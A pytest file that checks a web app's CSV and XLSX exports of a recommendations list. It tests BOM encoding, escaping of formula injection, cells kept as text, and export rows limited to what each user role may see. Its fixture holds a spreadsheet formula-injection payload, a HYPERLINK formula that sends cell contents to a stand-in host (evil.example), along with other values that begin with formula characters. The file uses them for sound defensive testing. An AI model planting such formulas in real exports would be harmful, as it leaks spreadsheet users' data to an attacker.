"""Exports of a filtered list: CSV in UTF-8 with a BOM, safe against formula injection; XLSX with text
cells that never run; the same rows, visibility and filters as the page."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.web.conftest import Pages, text

from . import dataset


@pytest.fixture
def data(db, world):
    built = dataset.build(db, world)
    rec = built.recs["A2"]
    rec.text = '=HYPERLINK("http://evil.example/?"&A1,"Натисніть")'
    built.recs["A1"].text = "+380 44 000 00 00 — телефон гарячої лінії"
    built.recs["A3"].text = "-1; @SUM(1+1) ＝1+1"
    db.session.commit()
    return built


def test_csv_is_utf8_with_bom_and_cells_never_run_as_formulas(app, world, data):
    manager = Pages(app.test_client()).as_(world, "manager")
    response = manager.get("/recommendations?overdue_days=1-7&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment;" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Номер", "Рекомендація", "Серйозність"]
    assert {r[0]: r[1] for r in rows[1:]} == {
        data.recs["A2"].number: '\'=HYPERLINK("http://evil.example/?"&A1,"Натисніть")',
        data.recs["A1"].number: "'+380 44 000 00 00 — телефон гарячої лінії",
    }
    assert [r[6] for r in rows[1:]] == ["7", "1"]  # days overdue, newest first (A2 then A1)
    assert [r[5] for r in rows[1:]] == ["16.11.2026", "22.11.2026"]


def test_xlsx_keeps_the_text_as_text(app, world, data):
    manager = Pages(app.test_client()).as_(world, "manager")
    response = manager.get("/recommendations?severity=critical&overdue=1&format=xlsx")
    book = load_workbook(io.BytesIO(response.get_data()))
    sheet = book.active
    assert sheet.title == "Рекомендації"
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == {data.recs[k].number for k in ("A1", "A3", "A6")}
    assert cells[data.recs["A3"].number].value == "-1; @SUM(1+1) ＝1+1"
    assert cells[data.recs["A3"].number].data_type == "s"


def test_an_export_is_exactly_the_list_the_user_may_see(app, world, data):
    lawyer = Pages(app.test_client()).as_(world, "lawyer")
    everything = list(
        csv.reader(io.StringIO(lawyer.get("/recommendations?format=csv").get_data(as_text=True)))
    )
    assert len(everything) - 1 == 17
    official = Pages(app.test_client()).as_(world, "authority")
    # The Office's lists (and their exports) are not for officials: they read their own site.
    assert official.get("/recommendations?format=csv").status_code == 403
    theirs = text(official.get("/portal"))
    # The colony's official: the colony's recommendations an act was sent for (A1 A8 C1 C4) — not
    # A2 A3 A10, whose acts were never sent to it (the access policy: nothing before an act).
    shown = {k for k, rec in data.recs.items() if f"Рекомендація {rec.number} " in theirs}
    assert shown == {"A1", "A8", "C1", "C4"}
